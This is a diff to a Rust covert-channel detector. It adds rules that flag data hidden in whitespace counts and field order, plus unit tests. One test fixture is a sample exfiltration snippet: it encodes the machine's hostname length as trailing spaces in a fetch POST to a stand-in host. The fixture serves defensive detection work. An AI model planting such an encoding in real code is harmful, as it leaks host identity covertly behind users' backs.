@@ -482,7 +482,13 @@ fn attempt<'a>(
     w.run();
     if w.exhausted
         && eng.can_spend()
-        && !matches!(seed.kind, SeedKind::Computed { .. } | SeedKind::Format(_))
+        && !matches!(
+            seed.kind,
+            SeedKind::Computed { .. }
+                | SeedKind::Format(_)
+                | SeedKind::Spacing { .. }
+                | SeedKind::Order(_)
+        )
     {
         let ds = Downstream::new(&w);
         let any = w.events.iter().any(|(_, ev)| {
@@ -924,6 +930,30 @@ fn synthesized<'a>(seed: &Seed<'a>, reached_code_point: bool) -> Vec<Decision<'a
             synthetic: true,
             whole: false,
         }],
+        SeedKind::Spacing { count, .. } => vec![Decision {
+            unit: seed.unit,
+            site: seed.node,
+            test: Test::Data(count),
+            alts: Alts::Encoding,
+            chosen: seed.node,
+            chosen_unit: seed.unit,
+            frames: Vec::new(),
+            state: 0,
+            synthetic: true,
+            whole: false,
+        }],
+        SeedKind::Order(test) => vec![Decision {
+            unit: seed.unit,
+            site: seed.node,
+            test: *test,
+            alts: Alts::Encoding,
+            chosen: seed.node,
+            chosen_unit: seed.unit,
+            frames: Vec::new(),
+            state: 0,
+            synthetic: true,
+            whole: false,
+        }],
         SeedKind::Format(tests) => tests
             .iter()
             .map(|t| Decision {
@@ -942,6 +972,9 @@ fn synthesized<'a>(seed: &Seed<'a>, reached_code_point: bool) -> Vec<Decision<'a
         _ => Vec::new(),
     }
 }
+
+/// The other side of a synthetic field-order decision.
+const ORDER: &str = "field order";
 
 /// One judged, traced decision.
 struct Candidate<'a> {
@@ -1734,6 +1767,25 @@ fn judge_decision<'a>(
                 chars: vec![*sample],
             });
         }
+        // How many spaces or tabs: a count nobody sees.
+        SeedKind::Spacing { fill, .. } if d.synthetic => {
+            return Some(Judged {
+                rule: Rule::CovertSpacing,
+                a: String::new(),
+                b: String::new(),
+                chars: vec![*fill],
+            });
+        }
+        // Field order: judged like a formatter's options (a locale's own
+        // order is i18n; a zone, host or user compared is a choice).
+        SeedKind::Order(_) if d.synthetic => {
+            return Some(Judged {
+                rule: Rule::CovertFormat,
+                a: String::new(),
+                b: ORDER.to_string(),
+                chars: Vec::new(),
+            });
+        }
         SeedKind::Format(_) if d.synthetic => {
             return Some(Judged {
                 rule: Rule::CovertFormat,
@@ -2236,6 +2288,29 @@ fn finding_at(
     {
         return Ok(None);
     }
+    // A hand-written format (`"DD.MM.YYYY"` / `"MM/DD/YYYY"`) looked up by
+    // the user's own locale is the date written the way the user reads it:
+    // i18n, unless the locale is compared on the way (a listed region).
+    if j.rule == Rule::CovertFormat
+        && !j.a.is_empty()
+        && hit.is_some()
+        && r.sources
+            .iter()
+            .chain(hit)
+            .all(|h| crate::env::is_locale_source(&h.read.what) && !h.compared)
+    {
+        return Ok(None);
+    }
+    // A count of spaces from a setting of the program's own (an indent, a
+    // width: a variable of no targetable kind) is layout; only a host, user,
+    // zone, endpoint or CI runner counted into whitespace is a channel.
+    if j.rule == Rule::CovertSpacing
+        && j.a.is_empty()
+        && j.b.is_empty()
+        && !hit.is_some_and(|h| h.read.category.is_targetable())
+    {
+        return Ok(None);
+    }
     // Text that is only printed on the local terminal is not egress; a CI
     // runner switching to plain output is ordinary, so CI choices need a sink.
     if local_only || (hit.is_some_and(|h| h.read.category == EnvCategory::Ci) && !hard_sink) {
@@ -2304,9 +2379,16 @@ fn finding_at(
             describe_chars(&r.chars)
         ),
         Rule::CovertInvisible => format!("invisible {} inserted or not", describe_chars(&r.chars)),
+        Rule::CovertFormat if j.a.is_empty() && j.b == ORDER => {
+            "field order (the same values permuted)".to_string()
+        }
         Rule::CovertFormat if j.a.is_empty() => {
             "formatter options (locale, separators, clock)".to_string()
         }
+        Rule::CovertSpacing if j.a.is_empty() && j.b.is_empty() => format!(
+            "a computed count of {} (trailing or doubled whitespace)",
+            describe_chars(&r.chars)
+        ),
         Rule::CovertFormat => format!("format variant \"{}\" / \"{}\"", escape(&j.a), escape(&j.b)),
         _ => describe_chars(&r.chars),
     };
@@ -3362,6 +3444,9 @@ fn signature(s: &str) -> Sig {
 /// The same non-constant fields (`${n}` placeholders) joined in another order
 /// and/or with other date separators: `${d}/${m}/${y}` vs `${y}-${m}-${d}`.
 pub(crate) fn reordered_fields(a: &str, b: &str) -> bool {
+    if token_format_variant(a, b) {
+        return true;
+    }
     fn split(s: &str) -> Option<(Vec<&str>, String)> {
         let mut holes = Vec::new();
         let mut rest = String::new();
@@ -3385,6 +3470,48 @@ pub(crate) fn reordered_fields(a: &str, b: &str) -> bool {
     ha.sort_unstable();
     hb.sort_unstable();
     ha == hb && a != b
+}
+
+/// Hand-written date/time token formats of the same fields in another order,
+/// with other separators or another padding: `"DD.MM.YYYY"` / `"YYYY-MM-DD"`,
+/// `"HH:mm"` / `"H:mm"`. Each text is runs of one token letter (`Y M D d H h
+/// m s A a`) between separators (`- / . : space ,`); at least two runs, the
+/// same letters in both.
+fn token_format_variant(a: &str, b: &str) -> bool {
+    fn letters(s: &str) -> Option<Vec<char>> {
+        if s.len() > 32 {
+            return None;
+        }
+        let mut runs: Vec<char> = Vec::new();
+        let mut prev: Option<char> = None;
+        for c in s.chars() {
+            match c {
+                'Y' | 'M' | 'D' | 'd' | 'H' | 'h' | 'm' | 's' | 'A' | 'a' => {
+                    if prev != Some(c) {
+                        runs.push(c);
+                    }
+                    prev = Some(c);
+                }
+                '-' | '/' | '.' | ':' | ' ' | ',' => {
+                    // Two token runs are separated, never adjacent ("MMDD" is a word).
+                    if prev.is_none() && runs.is_empty() {
+                        return None;
+                    }
+                    prev = None;
+                }
+                _ => return None,
+            }
+        }
+        if runs.len() < 2 {
+            return None;
+        }
+        let mut sorted = runs.clone();
+        sorted.sort_unstable();
+        sorted.dedup();
+        // Each field once: `"DD.MM.YYYY"`, not `"a a a"`.
+        (sorted.len() == runs.len()).then_some(sorted)
+    }
+    a != b && letters(a).is_some_and(|x| letters(b).is_some_and(|y| x == y))
 }
 
 fn separators(a: &str, b: &str) -> Vec<char> {
@@ -3451,6 +3578,54 @@ mod tests {
     use super::*;
     use crate::flow::walk::regex_literal_text;
     use std::fmt::Write as _;
+
+    #[test]
+    fn token_formats_of_the_same_fields_are_variants() {
+        assert!(reordered_fields("DD.MM.YYYY", "YYYY-MM-DD"));
+        assert!(reordered_fields("HH:mm", "H:mm"));
+        assert!(reordered_fields("MM/DD/YYYY", "DD/MM/YYYY"));
+        // Other fields, one field, words, the same text: no variant.
+        assert!(!reordered_fields("HH:mm", "HH:mm:ss"));
+        assert!(!reordered_fields("YYYY", "YY"));
+        assert!(!reordered_fields("Hello", "Hallo"));
+        assert!(!reordered_fields("MMDD", "DDMM"));
+        assert!(!reordered_fields("DD.MM.YYYY", "DD.MM.YYYY"));
+    }
+
+    #[test]
+    fn whitespace_count_from_identity_is_spacing() {
+        let out = analyse_with(
+            "import os from 'node:os';\n\
+             const n = os.hostname().length % 4;\n\
+             export const ask = (q) => fetch('https://x.example/v1', { method: 'POST', body: q + ' '.repeat(n) });\n",
+            &[],
+        );
+        assert!(
+            out.findings
+                .iter()
+                .flatten()
+                .any(|f| f.rule == Rule::CovertSpacing),
+            "{:?}",
+            out.findings
+        );
+    }
+
+    #[test]
+    fn whitespace_count_from_a_setting_is_layout() {
+        let out = analyse_with(
+            "const n = Number(process.env.MY_TOOL_INDENT) || 2;\n\
+             export const ask = (q) => fetch('https://x.example/v1', { method: 'POST', body: ' '.repeat(n) + q });\n",
+            &[],
+        );
+        assert!(
+            !out.findings
+                .iter()
+                .flatten()
+                .any(|f| f.rule.code().starts_with("PS1")),
+            "{:?}",
+            out.findings
+        );
+    }
 
     /// Covert-channel analysis of `src` with flow limits changed by `set`.
     fn analyse_with(src: &str, set: &[(&str, u32)]) -> Output {
